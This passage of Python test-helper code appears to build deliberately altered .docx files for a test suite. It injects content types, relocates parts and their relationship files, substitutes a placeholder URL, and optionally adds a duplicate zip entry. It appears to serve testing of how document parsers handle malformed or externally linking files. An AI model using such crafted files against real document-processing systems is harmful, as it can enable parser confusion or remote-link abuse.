    for name, content in case.parts.items():
        parts[name] = content.encode() if isinstance(content, str) else content
    kinds = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = kinds.replace("</Types>", case.types + "</Types>").encode()
    if case.moved:
        _move(parts, *case.moved)
    parts = {name: content.replace(b"%URL%", url.encode()) for name, content in parts.items()}
    return _zipped(parts, case.twice)


def _move(parts: dict[str, bytes], old: str, new: str) -> None:
    parts[new] = parts.pop(old)
    parts[_relations_of(new)] = parts.pop(_relations_of(old))
    for name in [each for each in parts if each.endswith((".rels", "[Content_Types].xml"))]:
        for was, becomes in ((old, new), (old.partition("/")[2], new.partition("/")[2])):
            parts[name] = parts[name].replace(f'/{was}"'.encode(), f'/{becomes}"'.encode())
            parts[name] = parts[name].replace(f'"{was}"'.encode(), f'"{becomes}"'.encode())


def _relations_of(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels"


def _plain() -> bytes:
    document = Document()
    document.add_heading("一、基本情况", 1)
    document.add_paragraph("一段文字。")
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return {name: source.read(name) for name in source.namelist()}


def _zipped(parts: dict[str, bytes], twice: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
        if twice:
            target.writestr(twice, b"")
    return stream.getvalue()
